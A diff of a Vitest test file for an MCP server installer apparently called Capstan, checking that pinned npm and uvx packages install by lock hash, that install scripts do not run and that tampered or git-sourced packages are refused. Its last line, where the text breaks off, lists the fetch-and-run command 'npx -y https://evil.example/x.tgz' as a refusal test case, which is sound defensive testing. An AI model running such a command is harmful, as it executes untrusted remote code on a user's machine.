@@ -2,21 +2,26 @@ import { existsSync, mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { expect, onTestFinished, test } from "vitest";
-import { installPython } from "../../../src/features/mcp/client/install-python.ts";
+import { startNpmRegistry } from "../../../rig/packages/npm-registry.ts";
+import { startPythonIndex } from "../../../rig/packages/python-index.ts";
+import type { SettingsInput } from "../../../src/app/settings.ts";
 import { openHarness } from "../../harness.ts";
 import { longTest } from "../../runs.ts";
-import { makeIndex } from "./fake-index.ts";
-import { startRegistry } from "./fake-registry.ts";
 import { openMcpApi } from "./open-mcp-api.ts";
-import { npmServer, type Pinned, storeWith, uvxServer } from "./pinned-servers.ts";
+import { npmServer, type Pinned, publishServer, storeWith, uvxServer } from "./pinned-servers.ts";
 
 const SLOWLY = { timeout: 20_000 };
 
 /** A Capstan with a server that was added before. */
-async function openWith(server: Pinned) {
+async function openWith(server: Pinned, registries: SettingsInput["registries"]) {
   const folder = mkdtempSync(join(tmpdir(), "capstan-content-"));
   const store = await storeWith({ kept: server });
-  const harness = await openHarness({ contentFolder: folder, store, profile: "auto" });
+  const harness = await openHarness({
+    contentFolder: folder,
+    store,
+    profile: "auto",
+    settings: { registries },
+  });
   onTestFinished(async () => {
     await harness.close();
     rmSync(folder, { recursive: true, force: true });
@@ -25,54 +30,45 @@ async function openWith(server: Pinned) {
 }
 
 test("A69: an npx server that was pinned is fetched as it was, without its scripts", async () => {
-  const registry = await startRegistry();
-  const { server, invoke } = await openWith(npmServer(registry));
-  registry.publish("1.1.0");
+  const registry = await startNpmRegistry();
+  const trace = join(mkdtempSync(join(tmpdir(), "capstan-trace-")), "script-ran");
+  const pinned = npmServer(registry, { trace });
+  publishServer(registry, "1.1.0");
+  const { server, invoke } = await openWith(pinned, { npm: registry.url });
   await expect.poll(() => server()?.tools, SLOWLY).toBeGreaterThan(5);
   expect(server()?.package?.version).toBe("1.0.0");
   expect((await invoke("mcp:kept:plain", {})).state).toBe("completed");
-  expect(existsSync(registry.trace)).toBe(false);
+  expect(existsSync(trace)).toBe(false);
 }, 60_000);
 
 test("A69: an archive that is not what was pinned is not installed", async () => {
-  const registry = await startRegistry();
+  const registry = await startNpmRegistry();
   const pinned = npmServer(registry);
-  registry.tamper("1.0.0");
-  const { server } = await openWith(pinned);
-  await expect.poll(() => server()?.error, SLOWLY).toMatch(/fetched/);
+  registry.tamper("fixture-server", "1.0.0");
+  const { server } = await openWith(pinned, { npm: registry.url });
+  await expect.poll(() => server()?.error, SLOWLY).toMatch(/does not have the hash of the lock/);
 }, 60_000);
 
 test("F10: an npx server whose lock names a repository is refused in words", async () => {
-  const registry = await startRegistry();
+  const registry = await startNpmRegistry();
   const resolved = "git+https://example.com/server.git#0123";
-  const { server } = await openWith(npmServer(registry, { resolved }));
+  const { server } = await openWith(npmServer(registry, { entry: { resolved } }), {
+    npm: registry.url,
+  });
   await expect.poll(() => server()?.error, SLOWLY).toMatch(/comes from git\+https/);
 }, 60_000);
 
 longTest(
   "A69: a uvx server that was pinned is fetched by its hashes, and runs in its box",
   async () => {
-    const index = makeIndex();
-    const { server, invoke } = await openWith(uvxServer(index));
+    const index = await startPythonIndex();
+    const { server, invoke } = await openWith(uvxServer(index), { python: index.simple });
     await expect.poll(() => server()?.state, SLOWLY).toBe("ready");
     const outcome = await invoke("mcp:kept:hello", {});
     expect(JSON.stringify(outcome.outputs)).toContain("hello from fixture-words 2.0.0");
-    expect(existsSync(index.trace)).toBe(false);
   },
   60_000,
 );
-
-test("A69: without pip it says what is missing", async () => {
-  const folder = mkdtempSync(join(tmpdir(), "capstan-python-"));
-  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
-  const spec = { name: "some-server", program: "some-server" };
-  const settings = { folder, python: join(folder, "python3"), env: process.env };
-  const lock = `some_server==1.0.0 --hash=sha256:${"0".repeat(64)}`;
-  await expect(installPython(spec, settings, lock)).rejects.toMatchObject({
-    code: "DEPENDENCY_MISSING",
-    message: expect.stringContaining("python3-pip"),
-  });
-});
 
 test.each([
   ["npx", ["-y", "https://evil.example/x.tgz"], "nothing pins the packages"],
